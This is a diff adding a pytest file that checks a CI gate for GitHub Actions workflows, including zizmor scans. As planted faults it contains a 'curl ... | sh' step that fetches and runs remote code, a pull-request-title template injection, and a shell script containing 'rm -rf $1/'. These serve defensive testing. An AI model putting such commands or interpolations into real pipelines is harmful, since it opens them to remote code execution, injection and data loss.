@@ -1,0 +1,97 @@
+"""Faults planted in a workflow are found, and the real workflows have none."""
+
+import shutil
+
+import pytest
+from ci.pipeline import workflows
+from ci.pipeline.changes import ROOT
+from ci.pipeline.gates import State
+
+COMMIT = "3d3c42e5aac5ba805825da76410c181273ba90b1"
+SOUND = f"""\
+name: Planted
+on:
+  push:
+    branches: [main]
+permissions: {{}}
+concurrency:
+  group: planted
+  cancel-in-progress: false
+jobs:
+  check:
+    name: Check
+    runs-on: ubuntu-24.04
+    timeout-minutes: 5
+    permissions:
+      contents: read # to read the code
+    steps:
+      - name: Fetch the code
+        uses: actions/checkout@{COMMIT} # v7.0.1
+        with:
+          persist-credentials: false
+      - name: Check
+        run: make lint
+"""
+PIN = f"actions/checkout@{COMMIT} # v7.0.1"
+PLANTED = {
+    "is not pinned by its commit": (PIN, "actions/checkout@v7"),
+    "has no `# v1.2.3` beside it": (PIN, f"actions/checkout@{COMMIT}"),
+    "which is neither make nor ci/": ("make lint", "curl -s https://example.org | sh"),
+    "has no time limit": ("    timeout-minutes: 5\n", ""),
+    "grants something to every job": ("permissions: {}", "permissions: write-all"),
+}
+
+
+@pytest.fixture
+def check(repository):
+    def checked(text: str):
+        repository.write(".github/workflows/planted.yml", text)
+        return workflows.workflows_gate(repository.space())
+
+    return checked
+
+
+def test_a_sound_workflow_passes(check):
+    result = check(SOUND)
+    assert (result.state, result.faults) == (State.PASSED, ())
+
+
+@pytest.mark.parametrize("fault", PLANTED)
+def test_a_planted_fault_fails(fault, check):
+    result = check(SOUND.replace(*PLANTED[fault]))
+    assert result.state == State.FAILED
+    assert any(fault in found for found in result.faults)
+
+
+def test_zizmor_finds_what_a_stranger_could_inject(check):
+    step = "make lint TITLE='${{ github.event.pull_request.title }}'"
+    result = check(SOUND.replace("make lint", step))
+    assert any("template-injection" in fault for fault in result.faults)
+
+
+def test_zizmor_finds_credentials_left_behind(check):
+    left = SOUND.replace("        with:\n          persist-credentials: false\n", "")
+    assert any("artipacked" in fault for fault in check(left).faults)
+
+
+def test_without_zizmor_the_gate_says_that_it_did_not_run(check, monkeypatch):
+    monkeypatch.setattr(workflows, "tool", lambda name: None)
+    assert check(SOUND).state == State.NOT_RUN
+
+
+def test_a_step_of_several_lines_is_read_line_by_line():
+    assert workflows.commands_of("make lint \\\n  A=b\n\nmake test\n") == [
+        "make lint A=b",
+        "make test",
+    ]
+
+
+def test_the_real_workflows_keep_the_rules_of_the_house():
+    assert workflows.workflow_files(ROOT)
+    assert workflows.house_rules(ROOT) == []
+
+
+@pytest.mark.skipif(shutil.which("sh") is None, reason="needs a shell")
+def test_a_script_with_a_trap_in_it_fails(repository):
+    repository.write("ci/bad.sh", '#!/bin/sh\nrm -rf $1/"\n')
+    assert workflows.scripts_gate(repository.space()).state == State.FAILED
